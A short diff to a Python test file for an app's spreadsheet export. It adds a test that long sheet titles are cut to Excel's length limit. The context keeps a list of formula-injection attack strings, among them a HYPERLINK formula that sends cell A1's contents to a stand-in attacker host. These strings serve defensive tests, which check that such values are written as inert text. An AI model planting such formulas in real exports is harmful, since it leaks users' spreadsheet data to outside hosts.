@@ -9,7 +9,7 @@ from openpyxl import Workbook, load_workbook
 
 from coordination import ledger, services
 from coordination.models import ActionItem, Proposal
-from coordination.spreadsheets import append_row, workbook_bytes
+from coordination.spreadsheets import append_row, table_workbook, workbook_bytes
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
@@ -85,3 +85,8 @@ def test_proposal_figures_export_writes_a_formula_like_unit_name_as_text(client,
     assert formulas_in(response.content) == []
     [cell] = [c for c in cells(response.content) if c.value == name]
     assert cell.quotePrefix
+
+
+def test_a_long_sheet_title_is_cut_to_what_excel_opens():
+    data = table_workbook("Figures on suggestions and proposals", ["a"], [[1]])
+    assert load_workbook(io.BytesIO(data)).active.title == "Figures on suggestions and prop"
